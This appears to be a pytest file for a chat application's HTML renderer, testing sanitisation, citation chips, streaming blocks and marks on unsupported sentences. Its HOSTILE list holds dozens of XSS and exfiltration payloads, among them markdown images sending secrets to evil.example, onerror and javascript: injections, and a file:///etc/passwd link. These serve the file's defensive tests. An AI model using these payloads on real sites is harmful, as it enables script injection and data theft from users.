"""What a model writes reaches a browser as harmless HTML, with citations where they belong."""

from html.parser import HTMLParser

import pytest

from chat.blocks import GrowingText
from chat.rendering import TAGS, Chip, answer_html, block_html

SOURCE = "/m/018f0000-0000-7000-8000-000000000000/sources/{}/"
CHIPS = [Chip(1, SOURCE.format(1), 'Source 1: "Leave", page 3'), Chip(2, SOURCE.format(2), "Two")]


class Seen(HTMLParser):
    """Every tag and every attribute of some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


# Ways in which an answer could make a browser call out or run something (the EchoLeak class and its relatives).
HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[![x](https://evil.example/a.png)](https://evil.example/)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](//evil.example/a.png)",
    '<img src="https://evil.example/a.png">',
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<svg onload=alert(1)><image href='https://evil.example/a.png'/></svg>",
    "<svg><style>*{background:url(https://evil.example)}</style></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/a.css'</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action=https://evil.example><button>Go</button></form>",
    "<video poster='https://evil.example/a.png'></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](/sign-out/)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example\\a)",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    '[x](https://evil.example "title" onclick="alert(1)")',
    "[x](https://ok.example@evil.example/)",
    "# <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "`<img src=x onerror=alert(1)>`",
    "> " * 60 + "<script>alert(1)</script>",
    "[" * 500 + "x",
    "*" * 2000,
    "<" * 2000,
    "\ue000<script>alert(1)</script>\ue001",
    "a\x00b<script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    "render", [answer_html, block_html, lambda text: grown(text, 3 + len(text) // 50)]
)
def test_nothing_that_a_model_writes_runs_or_calls_out(text: str, render: object) -> None:
    seen = Seen(render(text))  # type: ignore[operator]
    assert seen.tags <= TAGS
    assert not seen.tags & {
        "img",
        "svg",
        "script",
        "style",
        "iframe",
        "form",
        "link",
        "base",
        "object",
    }
    for tag, name, value in seen.attributes:
        assert not name.startswith("on")
        assert name not in {"src", "srcset", "style", "srcdoc", "action", "poster", "background"}
        if name == "href":
            assert tag == "a"
            assert value.lower().startswith(("http://", "https://", "mailto:"))


def grown(text: str, step: int) -> str:
    """The same text as it looks when it arrives in pieces."""
    pieces: dict[int, str] = {}
    growing = GrowingText()
    for start in range(0, len(text), step):
        for fragment in growing.feed(text[start : start + step]):
            pieces[fragment.index] = fragment.html
    return "".join(pieces.values())


def test_a_link_shows_its_host_and_gives_nothing_away() -> None:
    html = answer_html("See [the site](https://docs.example.com/a?b=1).")
    assert 'href="https://docs.example.com/a?b=1"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert '<span class="host">docs.example.com</span>' in html


def test_a_link_that_pretends_shows_where_it_really_leads() -> None:
    assert '<span class="host">evil.example</span>' in answer_html(
        "[https://bank.example](https://bank.example@evil.example/)"
    )


def test_an_image_becomes_its_description() -> None:
    assert answer_html("A ![red kite](https://x.example/k.png).") == (
        '<p>A <span class="no-image">red kite</span>.</p>\n'
    )


def test_a_mark_becomes_a_chip_at_the_word_before_it() -> None:
    html = answer_html("Leave is 25 days. [1][2]", CHIPS)
    assert html.startswith('<p>Leave is 25 days.<a class="cite" data-cite="1"')
    assert f'href="{SOURCE.format(1)}"' in html
    assert 'aria-label="Source 1: &quot;Leave&quot;, page 3"' in html


def test_a_mark_without_a_source_is_not_shown() -> None:
    assert answer_html("Leave is 25 days. [7]", CHIPS) == "<p>Leave is 25 days.</p>\n"


def test_marks_in_code_are_code() -> None:
    assert "<code>a[1]</code>" in answer_html("`a[1]`", CHIPS)
    assert "cite" not in answer_html("```\na[1]\n```", CHIPS)


def test_chips_stand_in_lists_tables_and_headings() -> None:
    html = answer_html("# Days [1]\n\n- 25 [1]\n\n| a |\n|---|\n| 25 [2] |\n", CHIPS)
    assert html.count('class="cite"') == 3
    assert html.startswith("<h3>Days")


@pytest.mark.parametrize(
    "text",
    ["It is warm.", "- It is warm.", "1. It is warm.", "> It is warm.", "## It is warm."],
)
def test_a_sentence_without_support_says_so_and_keeps_its_kind(text: str) -> None:
    plain = Seen(answer_html(text))
    html = answer_html(text, unsupported=[(0, len(text))])
    assert '<span class="unsupported"' in html
    assert "It is warm.</span>" in html
    assert "no source" in html
    assert Seen(html).tags - {"span"} == plain.tags - {"span"}


def test_marks_around_a_sentence_cannot_be_forged() -> None:
    assert "unsupported" not in answer_html("\ue000All is well.\ue001")


def test_a_sentence_that_ends_inside_bold_stays_well_formed() -> None:
    text = "**It is warm. Very warm.** So."
    html = answer_html(text, unsupported=[(2, 13)])
    assert html.count("<strong>") == html.count("</strong>")
    assert html.count("<span") == html.count("</span>")


def test_code_shows_its_language_and_tables_can_be_scrolled() -> None:
    html = answer_html("```python\nx = 1 < 2\n```\n\n| a |\n|---|\n| b |")
    assert '<span class="code-language">python</span>' in html
    assert "x = 1 &lt; 2" in html
    assert '<div class="table" tabindex="0"' in html


ANSWER = """Employees get **25 days** of leave [1].

- Zurich closes at 18:00
- Berlin closes at 19:30

| Office | Closes |
|---|---|
| Zurich | 18:00 |

```
x = 1
```

The end.
"""


@pytest.mark.parametrize("step", [1, 5, 17, 10_000])
def test_text_that_grows_ends_as_the_same_blocks(step: int) -> None:
    whole = [block_html(part) for part in ANSWER.split("\n\n")]
    assert grown(ANSWER, step) == "".join(whole)


def test_a_finished_block_is_never_touched_again() -> None:
    growing = GrowingText()
    growing.feed("First paragraph.\n\nSecond")
    assert [fragment.index for fragment in growing.feed(" paragraph")] == [1]
    assert [fragment.index for fragment in growing.feed(".\n\nThird")] == [1, 2]
